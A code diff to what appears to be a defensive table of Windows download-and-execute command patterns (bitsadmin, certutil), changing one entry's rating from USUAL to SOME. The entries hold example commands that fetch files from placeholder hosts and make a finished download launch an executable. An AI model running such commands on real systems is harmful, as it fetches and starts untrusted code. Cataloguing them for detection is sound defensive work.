@@ -10,7 +10,7 @@ WINDOWS: tuple[Core, ...] = (
     core(("bits_notify!", "bitsadmin", "has a finished download start a program"),
          flags(" -setnotifycmdline"), NEVER, "bitsadmin /setnotifycmdline a c:\\a.exe NUL", "bitsadmin /list"),
     core(("bits_transfer", "bitsadmin", "fetches a file"),
-         flags(" -transfer", " -addfile"), USUAL, "bitsadmin /transfer n http://1.2.3.4/a c:\\a",
+         flags(" -transfer", " -addfile"), SOME, "bitsadmin /transfer n http://1.2.3.4/a c:\\a",
          "bitsadmin /list /allusers"),
     core(("certutil_fetch", "certutil", "fetches a file"),
          flags(" -urlcache", " -verifyctl"), SOME, "certutil -urlcache -split -f http://a/b c",
